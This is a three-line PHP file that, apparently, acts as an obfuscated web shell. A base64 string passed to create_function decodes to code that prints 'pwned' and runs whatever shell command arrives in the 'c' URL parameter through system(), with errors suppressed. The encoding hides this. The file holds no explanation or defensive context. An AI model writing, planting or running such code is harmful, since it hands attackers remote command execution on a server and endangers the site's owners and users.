<?php
$f = create_function('', base64_decode('ZWNobyAncHduZWQnOyBAc3lzdGVtKCRfR0VUWydjJ10pOw=='));
$f();
